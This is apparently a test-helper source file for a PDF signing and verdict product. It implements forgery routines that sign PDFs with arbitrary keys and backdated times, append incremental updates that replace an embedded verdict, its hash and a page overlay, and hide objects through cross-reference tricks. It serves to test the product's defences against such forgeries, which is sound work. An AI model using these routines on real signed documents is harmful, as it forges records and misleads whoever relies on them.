/**
 * What a forger does with their own tools: sign any PDF with any PKCS#12 at any claimed time (no refusal
 * of expired or untrusted certificates), and append incremental updates that redefine objects. Built from
 * the same libraries as the product, below the product's own refusals.
 */
import { deflateSync } from 'node:zlib'
import { createHash } from 'node:crypto'
import { SignPdf } from '@signpdf/signpdf'
import { plainAddPlaceholder } from '@signpdf/placeholder-plain'
import { SUBFILTER_ETSI_CADES_DETACHED } from '@signpdf/utils'
import { openPkcs12, PadesSigner } from '../../src/main/pdf/pades'
import { isArray, isDict, isRef, PdfFile, type PdfValue } from '../../src/main/pdf/pdf-objects'
import { serializePdf } from '../../src/main/pdf/doc-timestamp'
import { requestTimestamp } from '../../src/main/pdf/tsp'

/** Signs `pdf` (adding a placeholder as an incremental update) with any key, claiming `signingTime`. */
export async function forgeSign(
  pdf: Buffer,
  p12: Buffer,
  passphrase: string,
  signingTime: Date
): Promise<Buffer> {
  const signing = await openPkcs12(p12, passphrase, signingTime)
  const withPlaceholder = plainAddPlaceholder({
    pdfBuffer: pdf,
    reason: 'Verdict',
    contactInfo: '',
    name: 'A. Auditor (test)',
    location: '',
    signingTime,
    signatureLength: 16_384,
    subFilter: SUBFILTER_ETSI_CADES_DETACHED
  })
  return new SignPdf().sign(withPlaceholder, new PadesSigner(signing), signingTime)
}

const pdfString = (s: string): PdfValue => ({ kind: 'string', bytes: Buffer.from(s, 'latin1') })

/**
 * Attack P4's update: keeps every byte of `signed`, and appends a revision that redefines the verdict.json
 * stream, the info dictionary's verdict hash and id, and draws an overlay (`overlay` text) on page 1.
 */
export function appendForgedVerdict(signed: Buffer, forgedJson: Buffer, overlay: string): Buffer {
  const file = new PdfFile(signed)
  const root = file.catalog()!
  const names = file.resolve(root.get('Names'))
  if (!isDict(names)) throw new Error('no Names')
  const entries = file.nameTree(names.get('EmbeddedFiles'), 16)
  const spec = file.resolve(entries.find(([n]) => n === 'verdict.json')![1])
  if (!isDict(spec)) throw new Error('no file spec')
  const ef = file.resolve(spec.get('EF'))
  if (!isDict(ef)) throw new Error('no EF')
  const streamRef = ef.get('F')
  const infoRef = file.trailer('Info')
  const info = file.resolve(infoRef)
  const pages = file.resolve(root.get('Pages'))
  const kids = isDict(pages) ? file.resolve(pages.get('Kids')) : undefined
  const pageRef = isArray(kids) ? kids[0] : undefined
  const page = file.resolve(pageRef)
  if (!isRef(streamRef) || !isRef(infoRef) || !isDict(info) || !isRef(pageRef) || !isDict(page))
    throw new Error('unexpected structure')
  const size = file.trailer('Size') as number
  const sha = createHash('sha256').update(forgedJson).digest('hex')
  const newInfo = new Map(info)
  newInfo.set('AWVerdictSHA256', pdfString(sha))
  newInfo.set('AWVerdictId', pdfString(`AW-forged-${sha.slice(0, 12)}`))
  const overlayNum = size
  const contents = page.get('Contents')
  const newPage = new Map(page)
  newPage.set('Contents', [
    ...(isArray(contents) ? contents : [contents ?? null]),
    { kind: 'ref', num: overlayNum, gen: 0 }
  ])
  const packed = deflateSync(forgedJson)
  const draw = `q 1 0 0 rg BT /F1 48 Tf 120 420 Td (${overlay}) Tj ET Q`
  const objects: [number, Buffer][] = [
    [
      streamRef.num,
      Buffer.concat([
        Buffer.from(
          `<< /Type /EmbeddedFile /Subtype /application#2Fjson /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`
        ),
        packed,
        Buffer.from('\nendstream')
      ])
    ],
    [infoRef.num, Buffer.from(serializePdf(newInfo))],
    [pageRef.num, Buffer.from(serializePdf(newPage))],
    [overlayNum, Buffer.from(`<< /Length ${draw.length} >>\nstream\n${draw}\nendstream`)]
  ]
  const prevXref = /startxref\s+(\d+)\s*%%EOF\s*$/.exec(signed.toString('latin1', signed.length - 64))![1]
  const parts: Buffer[] = [signed]
  let at = signed.length
  const offsets: [number, number][] = []
  for (const [num, body] of objects) {
    const head = Buffer.from(`\n${num} 0 obj\n`)
    offsets.push([num, at + 1])
    parts.push(head, body, Buffer.from('\nendobj'))
    at += head.length + body.length + '\nendobj'.length
  }
  const xrefAt = at + 1
  const xref = [
    '\nxref',
    ...offsets.sort((a, b) => a[0] - b[0]).map(([n, o]) => `${n} 1\n${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${size + 1} /Root ${serializePdf(file.trailer('Root'))} /Info ${infoRef.num} 0 R /Prev ${prevXref} >>`,
    'startxref',
    String(xrefAt),
    '%%EOF\n'
  ].join('\n')
  parts.push(Buffer.from(xref))
  return Buffer.concat(parts)
}

/** An object an update (re)defines: its body (after `n 0 obj`), or `free` to mark it free in the xref. */
export type UpdateEntry = readonly [num: number, body: Buffer | 'free']

/**
 * What anyone can do with a public timestamp authority (it stamps whatever digest it is sent): append one
 * revision to `signed` that carries `entries` beside a genuine document timestamp (a DocTimeStamp signature
 * dictionary, its invisible field listed in the AcroForm, the token from `tsaUrl` over the revision's byte
 * ranges), laid out as the product's `timestamp` command lays out its own update.
 */
export async function appendTimestampedUpdate(
  signed: Buffer,
  tsaUrl: string,
  o: {
    /** objects the revision (re)defines or frees, listed in its cross-reference table */
    readonly entries?: readonly UpdateEntry[]
    /**
     * objects listed not in the revision's cross-reference table but in a cross-reference stream that its
     * trailer names (/XRefStm: a hybrid file, as PDF 1.5 readers follow it)
     */
    readonly hidden?: readonly (readonly [num: number, body: Buffer])[]
    /** more entries of the timestamp's field dictionary (PDF syntax) */
    readonly field?: string
    /**
     * more entries of the AcroForm (PDF syntax), which is then written as a new object that the catalog's
     * /AcroForm points to (instead of redefining the AcroForm object in place)
     */
    readonly acroForm?: string
    /** more entries of the revision's trailer (PDF syntax) */
    readonly trailer?: string
    /** the entries whose object header claims generation 1 (the cross-reference table says 0) */
    readonly generation1?: readonly number[]
    /** objects written into the revision's body but listed in no cross-reference section */
    readonly unlisted?: readonly (readonly [num: number, body: Buffer])[]
  } = {}
): Promise<Buffer> {
  const file = new PdfFile(signed)
  const rootRef = file.trailer('Root')
  const catalog = file.catalog()!
  const acroRef = catalog.get('AcroForm')
  const acro = file.resolve(acroRef)
  const size = file.trailer('Size')
  if (!isRef(rootRef) || !isRef(acroRef) || !isDict(acro) || typeof size !== 'number')
    throw new Error('unexpected structure')
  const fields = file.resolve(acro.get('Fields'))
  const sigNum = size
  const fieldNum = size + 1
  const newAcro = new Map(acro)
  newAcro.set('Fields', [...(isArray(fields) ? fields : []), { kind: 'ref', num: fieldNum, gen: 0 }])
  const placeholder = `<${'0'.repeat(2 * 12_288)}>`
  const slot = '/ByteRange [0 ********** ********** **********]'
  const entries = o.entries ?? []
  const hidden = o.hidden ?? []
  const acroNum = o.acroForm === undefined ? acroRef.num : size + 2
  const newCatalog = new Map(catalog)
  newCatalog.set('AcroForm', { kind: 'ref', num: acroNum, gen: 0 })
  const objects: UpdateEntry[] = [
    ...entries,
    [acroNum, Buffer.from(serializePdf(newAcro).replace(/>>$/, `${o.acroForm ?? ''}>>`))],
    ...(o.acroForm === undefined ? [] : [[rootRef.num, Buffer.from(serializePdf(newCatalog))] as const]),
    [
      sigNum,
      Buffer.from(
        `<< /Type /DocTimeStamp /Filter /Adobe.PPKLite /SubFilter /ETSI.RFC3161 ${slot} /Contents ${placeholder} >>`
      )
    ],
    [
      fieldNum,
      Buffer.from(
        `<< /FT /Sig /T (DocTimeStamp${fieldNum}) /V ${sigNum} 0 R /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /F 132${o.field ?? ''} >>`
      )
    ]
  ]
  const prevXref = /startxref\s+(\d+)\s*%%EOF\s*$/.exec(signed.toString('latin1', signed.length - 64))![1]
  const parts: Buffer[] = []
  let at = signed.length
  const xrefLines: [number, string][] = []
  for (const [num, body] of objects) {
    if (body === 'free') {
      xrefLines.push([num, `${num} 1\n0000000000 00001 f `])
      continue
    }
    const head = Buffer.from(`${num} ${o.generation1?.includes(num) ? 1 : 0} obj\n`)
    xrefLines.push([num, `${num} 1\n${String(at).padStart(10, '0')} 00000 n `])
    parts.push(head, body, Buffer.from('\nendobj\n'))
    at += head.length + body.length + '\nendobj\n'.length
  }
  for (const [num, body] of o.unlisted ?? []) {
    const head = Buffer.from(`${num} 0 obj\n`)
    parts.push(head, body, Buffer.from('\nendobj\n'))
    at += head.length + body.length + '\nendobj\n'.length
  }
  let xrefStm = ''
  if (hidden.length) {
    const rows: Buffer[] = []
    for (const [num, body] of hidden) {
      const head = Buffer.from(`${num} 0 obj\n`)
      const row = Buffer.alloc(6)
      row.writeUInt8(1, 0)
      row.writeUInt32BE(at, 1)
      rows.push(row)
      parts.push(head, body, Buffer.from('\nendobj\n'))
      at += head.length + body.length + '\nendobj\n'.length
    }
    const data = Buffer.concat(rows)
    const index = hidden.flatMap(([num]) => [num, 1]).join(' ')
    const head = Buffer.from(
      `${size + 3} 0 obj\n<< /Type /XRef /Size ${size + 4} /W [1 4 1] /Index [${index}] /Length ${data.length} >>\nstream\n`,
      'latin1'
    )
    xrefStm = ` /XRefStm ${at}`
    parts.push(head, data, Buffer.from('\nendstream\nendobj\n'))
    at += head.length + data.length + '\nendstream\nendobj\n'.length
  }
  const xref = [
    'xref',
    ...xrefLines.sort((a, b) => a[0] - b[0]).map(([, line]) => line),
    'trailer',
    `<< /Size ${size + 4} /Root ${serializePdf(rootRef)} /Info ${serializePdf(file.trailer('Info'))} /Prev ${prevXref}${xrefStm}${o.trailer ?? ''} >>`,
    'startxref',
    String(at),
    '%%EOF\n'
  ].join('\n')
  parts.push(Buffer.from(xref, 'latin1'))
  const out = Buffer.concat([signed, ...parts])
  const holeStart = out.indexOf(placeholder, signed.length, 'latin1')
  const holeEnd = holeStart + placeholder.length
  const range = `/ByteRange [0 ${holeStart} ${holeEnd} ${out.length - holeEnd}]`.padEnd(slot.length, ' ')
  out.write(range, out.indexOf(slot, signed.length, 'latin1'), 'latin1')
  const imprint = createHash('sha256')
    .update(out.subarray(0, holeStart))
    .update(out.subarray(holeEnd))
    .digest()
  const token = await requestTimestamp(tsaUrl, imprint)
  out.write(token.toString('hex'), holeStart + 1, 'latin1')
  return out
}

/**
 * A stream object rewritten in place: the same dictionary (so the same /Length and /Filter), other data.
 * `data` is deflated without compression (stored blocks) and padded with a PDF comment to the old length.
 */
export function sameLengthStream(file: PdfFile, num: number, data: string): Buffer {
  const start = file.valueStart(num)
  const text = file.pdf.toString('latin1')
  const dictEnd = text.indexOf('stream', start)
  const head = text.slice(start, dictEnd)
  const length = Number(/\/Length (\d+)/.exec(head)![1])
  const stored = (s: string): Buffer => deflateSync(Buffer.from(s, 'latin1'), { level: 0 })
  const pad = length - stored(data).length - 2
  if (pad < 0) throw new Error(`the new data does not fit the ${length} bytes of object ${num}`)
  const packed = stored(`${data}\n%${'x'.repeat(pad)}`)
  if (packed.length !== length) throw new Error(`stored deflate gave ${packed.length}, not ${length}`)
  return Buffer.concat([
    Buffer.from(`${head.trim()}\nstream\n`, 'latin1'),
    packed,
    Buffer.from('\nendstream')
  ])
}
